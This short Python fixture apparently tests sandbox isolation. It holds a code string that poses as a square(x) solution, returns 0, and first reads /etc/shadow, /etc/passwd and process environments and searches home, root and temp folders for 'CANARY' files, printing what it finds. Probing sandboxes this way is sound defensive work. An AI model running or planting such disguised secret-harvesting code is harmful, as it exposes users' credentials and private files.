"""Searches home, temporary and usual folders for secrets and prints them."""

SQUARE = r"""
import glob, os, sys
found = []
for root in ("/proc/self/environ", "/proc/1/environ", "/proc/self/cmdline", "/root", "/home", "/tmp", "/var", "/etc/shadow", "/etc/passwd", os.path.expanduser("~")):
    try:
        if os.path.isdir(root):
            for here, folders, files in os.walk(root):
                for name in files[:50]:
                    try:
                        text = open(os.path.join(here, name), errors="replace").read(200_000)
                        if "CANARY" in text:
                            found.append(text)
                    except OSError:
                        pass
                if len(found) > 5 or here.count("/") > 9:
                    break
        else:
            found.append(open(root, errors="replace").read(5000))
    except OSError as error:
        found.append(str(error))
print(found)
def square(x):
    return 0
"""
